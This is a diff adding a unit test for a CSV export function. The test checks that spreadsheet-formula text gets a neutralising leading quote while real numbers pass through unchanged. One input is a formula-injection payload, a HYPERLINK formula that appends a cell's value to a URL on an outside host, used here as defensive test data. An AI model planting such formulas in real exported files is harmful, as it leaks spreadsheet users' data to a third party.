@@ -16,6 +16,22 @@ describe('CSV format', () => {
     );
   });
 
+  it('gives text a spreadsheet would run as a formula a leading quote, not numbers', () => {
+    const rows = [
+      { name: '=HYPERLINK("http://x/?"&A1,"Click")', n: -3, money: '-12.50' },
+      { name: '@SUM(1)', n: 2, money: '+1' },
+      { name: '-1+2', n: 0, money: '\t=1' },
+      { name: ['=A1', 'b'], n: 1, money: 'plain' },
+    ];
+    expect(toCsv(['name', 'n', 'money'], rows)).toBe(
+      'name,n,money\r\n' +
+        `"'=HYPERLINK(""http://x/?""&A1,""Click"")",-3,-12.50\r\n` +
+        "'@SUM(1),2,+1\r\n" +
+        "'-1+2,0,'\t=1\r\n" +
+        "'=A1; b,1,plain\r\n",
+    );
+  });
+
   it('takes the columns from the selection, nested fields as dotted names, in order', () => {
     const shape = csvShape(
       `query Q($after: String) { villages(after: $after) { pageInfo { endCursor }
